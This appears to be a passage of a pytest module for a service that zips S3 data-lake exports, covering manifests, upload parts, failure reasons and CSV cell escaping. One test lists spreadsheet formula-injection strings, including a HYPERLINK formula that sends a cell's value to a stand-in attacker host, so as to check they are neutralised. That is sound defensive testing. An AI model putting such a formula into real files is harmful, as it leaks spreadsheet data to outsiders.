        assert list(read(bucket[zip_key(ID)])[0].values()) == list(whole.values())


@pytest.mark.parametrize("kind", [Format.CSV_GZ, Format.JSONL_GZ])
def test_a_damaged_name_of_a_column_in_a_manifest_does_not_empty_the_zip(kind: Format) -> None:
    bucket = Bucket(_written(kind))
    key = archive.folder(DAY, kind) + archive.MANIFEST
    bucket[key] = bucket[key].replace(b'"client"', b'"clienu"')
    worker = Worker(bucket)

    worker.work(job(1, format=ZipFormat.JSONL, client="acme"))

    assert str(worker.reported[-1].reason) == (
        f"{archive.folder(DAY, kind)}part-00000.{kind} is damaged: tell the operator"
    )


def test_an_upload_that_somebody_gave_up_is_begun_anew() -> None:
    expected = zip_of(lake(), job())
    bucket = lake()
    write_job(bucket, job())
    Worker(bucket, Hurried(200)).receive(job().to_json())
    bucket.uploads.clear()

    Worker(bucket).receive(job().to_json())

    assert (bucket[zip_key(ID)], bucket.uploads) == (expected, {})


def test_a_download_that_is_deleted_in_the_making_leaves_nothing() -> None:
    bucket = lake()

    class Deleting(Budget):
        def is_time_to_publish(self) -> bool:
            if bucket.calls > 1:
                bucket.delete([job_key(ID)])
            return True

    worker = Worker(bucket, Deleting(lambda: 900, part_bytes=64 * 1024))

    assert worker.work(job()) == []
    assert [key for key in bucket if key.startswith("tmp/")] == []
    assert (bucket.uploads, worker.reported) == ({}, [])


def test_progress_is_written_at_most_once_a_second_and_only_grows() -> None:
    bucket = lake()
    seen: list[tuple[float, Job]] = []
    clock = 0.0

    class Slow(Bucket):
        def stream(self, key: str) -> Iterator[bytes]:
            nonlocal clock
            for chunk in bucket.stream(key):
                clock += 0.15
                yield chunk

        def replace(self, key: str, body: bytes, tag: str | None) -> bool:
            if key == job_key(ID):
                seen.append((clock, Job.from_json(body)))
            return super().replace(key, body, tag)

    slow = Slow(bucket)
    Worker(slow, Budget(lambda: 900, lambda: clock, part_bytes=64 * 1024)).work(job())

    (_, taken), *rest = seen
    assert (taken.state, taken.total_bytes) == (State.RUNNING, None)
    running = [(at, each) for at, each in rest if each.state is State.RUNNING]
    assert len(running) > 5
    assert all(later - sooner >= 1 for (sooner, _), (later, _) in itertools.pairwise(running))
    done = [each.done_bytes for _, each in running]
    assert done == sorted(done)
    last = seen[-1][1]
    assert done[-1] <= last.done_bytes == last.total_bytes == running[0][1].total_bytes


@pytest.mark.parametrize(
    ("error", "reason", "again"),
    [
        (client_error("InvalidObjectState", 403), f"{KEY} is in the archive: restore it", False),
        (client_error("AccessDenied", 403), f"{KEY} cannot be read: ask again", True),
        (client_error("PreconditionFailed", 412), f"{KEY} is gone, as after a new export", True),
        (isal_zlib.error("invalid block"), "an internal error: ask again", True),  # type: ignore[operator]
        (ZeroDivisionError("a secret"), "an internal error: ask again", True),
        (OSError("the disk is gone"), "an internal error: ask again", True),
        (KeyError("n"), f"{KEY} is damaged", True),
    ],
)
def test_a_zip_that_cannot_be_made_says_why_and_its_neighbours_are_made(
    error: Exception, reason: str, again: bool
) -> None:
    """Every exception ends a job. Its reason has nothing of another service's; the log has the incident."""

    class Broken(Bucket):
        def stream(self, key: str) -> Any:  # noqa: ARG002 - a bucket's signature
            raise error

    bucket = Broken(lake(days=1))
    worker = Worker(bucket)
    good = replace(job(), id="f" * 32, request=Request(Days(date(2025, 11, 1), date(2025, 11, 1))))

    failures = worker.work(job(1), good)

    assert len(failures) == (1 if again else 0)
    assert [each.state for each in worker.reported] == [State.FAILED, State.EMPTY]
    assert str(worker.reported[0].reason).startswith(reason)
    assert str(error) not in str(worker.reported[0].reason)
    assert (worker.reported[0].incident is not None) == again
    assert worker.errors[0] is not None
    assert read_job(bucket, ID) == worker.reported[0]
    assert bucket.uploads == {}
    assert plan_key(ID) not in bucket


@pytest.mark.parametrize("wanted", REQUESTS, ids=["copied", "chosen", "as JSON"])
def test_a_file_that_is_not_what_its_manifest_says_fails_the_zip_before_it_is_there(
    wanted: dict[str, Any],
) -> None:
    bucket = lake(days=1)
    key = f"{archive.folder(DAY)}part-00001-r1.csv.gz"
    bucket[key] = gzip.compress(lines(3, 50))
    worker = Worker(bucket)

    assert len(worker.work(job(1, **wanted))) == 1

    assert str(worker.reported[-1].reason).startswith(key)
    assert zip_key(ID) not in bucket
    assert bucket.uploads == {}


@pytest.mark.parametrize("cut", [5, 15, -1])
def test_a_file_that_ends_early_fails_the_zip(cut: int) -> None:
    bucket = lake(days=1, parts=1)
    key = f"{archive.folder(DAY)}part-00000-r1.csv.gz"
    bucket[key] = bucket[key][:cut]
    worker = Worker(bucket)

    assert len(worker.work(job(1))) == 1

    assert worker.reported[-1].state is State.FAILED
    assert zip_key(ID) not in bucket


def test_parts_grow_with_the_zip_so_that_memory_and_their_number_have_limits() -> None:
    sizes = [part_size(number, PART_BYTES) for number in range(1, MAX_PARTS + 1)]

    assert list(itertools.accumulate(sizes, initial=0)) == [
        size_of_parts(count, PART_BYTES) for count in range(MAX_PARTS + 1)
    ]
    # https://docs.aws.amazon.com/AmazonS3/latest/userguide/qfacts.html
    assert (sizes[0], sizes[-1], sum(sizes)) == (8 * MEBIBYTE, 128 * MEBIBYTE, 496_000 * MEBIBYTE)
    assert sizes == sorted(sizes)


def test_a_zip_with_parts_of_several_sizes_is_whole_and_is_resumed_behind_them() -> None:
    expected = zip_of(lake(count=200), job())
    bucket = lake(count=200)
    write_job(bucket, job())
    messages = [job().to_json()]
    while messages:
        worker = Worker(bucket, Hurried(1_500, part_bytes=10))
        worker.receive(messages.pop())
        messages += worker.sent

    assert len(expected) > size_of_parts(PARTS_OF_A_SIZE + 10, 10)
    assert (bucket[zip_key(ID)], bucket.uploads) == (expected, {})


def test_a_zip_that_needs_more_parts_than_s3_takes_fails_with_the_limit() -> None:
    bucket = lake()
    worker = Worker(bucket, budget(part_bytes=1))

    assert worker.work(job()) == []

    most = size_of_parts(MAX_PARTS, 1)
    assert worker.reported[-1].reason == f"the zip has more than {most} bytes: ask for fewer days"
    assert bucket.uploads == {}


def a_part(columns: int, rows: int, text_bytes: int | None) -> tuple[Manifest, Part]:
    part = Part(KEY, rows, 30 << 20, "", "", "", text_bytes, formulas=0)
    names = tuple(Column(f"column_number_{number}", "text") for number in range(columns))
    return Manifest(DAY, 1, names, (part,)), part


@pytest.mark.parametrize(
    ("columns", "rows", "text_bytes", "wanted", "large"),
    [
        (20, 800_000, 256 << 20, {}, False),
        (20, 800_000, None, {}, False),
        (20, 800_000, 256 << 20, {"format": ZipFormat.JSONL}, False),
        # Each row may name all columns: a wide part of 256 MiB may become one of more than 4 GiB.
        (1_000, 260_000, 256 << 20, {"format": ZipFormat.JSONL}, True),
        (1_000, 260_000, 256 << 20, {"format": ZipFormat.JSONL, "columns": ("column_number_1",)}, False),
        (1_000, 260_000, 4 << 30, {}, True),
    ],
)
def test_whether_a_file_takes_64_bits_follows_from_the_manifest(
    columns: int, rows: int, text_bytes: int | None, wanted: dict[str, Any], large: bool
) -> None:
    manifest, part = a_part(columns, rows, text_bytes)

    assert is_large(job(1, **wanted).request, manifest, part) is large


TEXTS = st.text(st.sampled_from('=-+@"\\\x00\n\r\t,é😀a1'), max_size=6) | st.none()


@given(
    st.sampled_from(["a", "=1+1", "é" * 20, 'q"']).flatmap(
        lambda name: st.tuples(st.just(name), st.lists(st.tuples(TEXTS, TEXTS), max_size=20))
    ),
    st.sampled_from([Format.CSV_GZ, Format.CSV, Format.JSONL_GZ]),
    st.sampled_from([ZipFormat.CSV, ZipFormat.JSONL, ZipFormat.ANY]),
    st.sampled_from([(), ("b",)]),
    st.sampled_from(Cells),
)
@settings(deadline=None, max_examples=100)
def test_cells_are_safe_or_exact_as_asked_and_files_are_no_larger_than_was_foreseen(
    named: tuple[str, list[tuple[str | None, str | None]]],
    kind: Format,
    wanted: ZipFormat,
    columns: tuple[str, ...],
    cells: Cells,
) -> None:
    name, texts = named
    bucket = Bucket()
    known = (Column("time", "timestamp"), Column("_type", "text"), Column(name, "text"), Column("b", "text"))
    rows: list[Values] = [["2025-11-20 10:00:00.000000000", "t", *pair] for pair in texts]
    day = Day(bucket, DAY, kind)
    empties = any("" in pair for pair in texts)
    parts = tuple(day.write(iter([Batch(rows, empties)] if rows else []), known, 1))
    manifest = Manifest(DAY, 1, known, parts, kind)
    day.commit(manifest, None, NOW)
    asked = job(1, format=wanted, columns=columns, cells=cells)

    files, in_zip = read(zip_of(bucket, asked))

    assert in_zip["rows"] == len(rows)
    for part, body in zip(parts, files.values(), strict=True):
        assert len(body) <= most_bytes(asked.request, manifest, part)
    if not rows or asked.request.ending(kind) != "csv":
        return
    read_back = list(csv.reader(io.StringIO(next(iter(files.values())).decode(), newline="")))
    names = columns or tuple(column.name for column in known)
    places = [[column.name for column in known].index(each) for each in names]
    expected = [list(names), *([row[place] or "" for place in places] for row in rows)]
    if cells is Cells.SAFE:
        assert not any(is_formula(cell) for row in read_back for cell in row)
        expected = [[str(safe(cell)) for cell in row] for row in expected]
    # The module reads an empty line as a row without values.
    assert [row or [""] for row in read_back] == expected


@pytest.mark.parametrize(
    ("text", "is_run"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"click")', True),
        ("@SUM(1)", True),
        ("+1+1", True),
        ("-2+3", True),
        ("\t=1", True),
        ("\r=1", True),
        ("＝1", True),  # noqa: RUF001 - a full-width form
        ("-", False),
        ("-5", False),
        ("+4.5e-3", False),
        ("-.5", False),
        ("", False),
        ("a=1", False),
        ("'=1", False),
    ],
)
def test_a_cell_is_a_formula_unless_it_is_a_number_or_a_dash(text: str, is_run: bool) -> None:
    assert is_formula(text) is is_run
    assert safe(text) == (f"'{text}" if is_run else text)


@pytest.mark.parametrize(
    ("formulas", "cells", "copied"),
    [
        (0, Cells.SAFE, True),
        (1, Cells.SAFE, False),
        (None, Cells.SAFE, False),
        (1, Cells.EXACT, True),
        (None, Cells.EXACT, True),
    ],
)
def test_a_part_is_copied_unless_it_has_cells_to_make_safe_or_did_not_count_them(
    formulas: int | None, cells: Cells, copied: bool
) -> None:
    bucket = Bucket()
    put_day(bucket, DAY, lines(0, 500), formulas=formulas)
    packed = bucket[KEY][10:-8]

    body = zip_of(bucket, job(1, cells=cells))

    assert (packed in body) is copied
    assert next(iter(read(body)[0].values())) == lines(0, 500)


def test_a_range_of_days_in_several_formats_is_given_as_it_is_kept() -> None:
    bucket = Bucket()
    put_day(bucket, DAY, lines(0, 5))
    put_day(bucket, DAY + timedelta(days=1), b'{"client":"acme"}\n', kind=".jsonl.gz", rows=1)
    put_day(bucket, DAY + timedelta(days=2), b"PAR1", kind=".parquet", rows=2)

    files, manifest = read(zip_of(bucket, job(3, format=ZipFormat.ANY)))

    assert files == {
        "2025-11-20-part-00000.csv": lines(0, 5),
        "2025-11-21-part-00000.jsonl": b'{"client":"acme"}\n',
        "2025-11-22-part-00000.parquet": b"PAR1",
    }
    assert (manifest["format"], manifest["rows"], manifest["days_not_exported"]) == ("any", 8, [])


def test_csv_is_made_of_json_lines_where_a_day_has_only_those() -> None:
    bucket = Bucket()
    put_day(bucket, DAY, lines(0, 5))
    put_day(bucket, DAY + timedelta(days=1), b'{"client":"=1","n":-5}\n', kind=".jsonl.gz", rows=1)

    files, _ = read(zip_of(bucket, job(2)))

    assert list(files.values()) == [lines(0, 5), b"time,client,n\n,'=1,-5\n"]
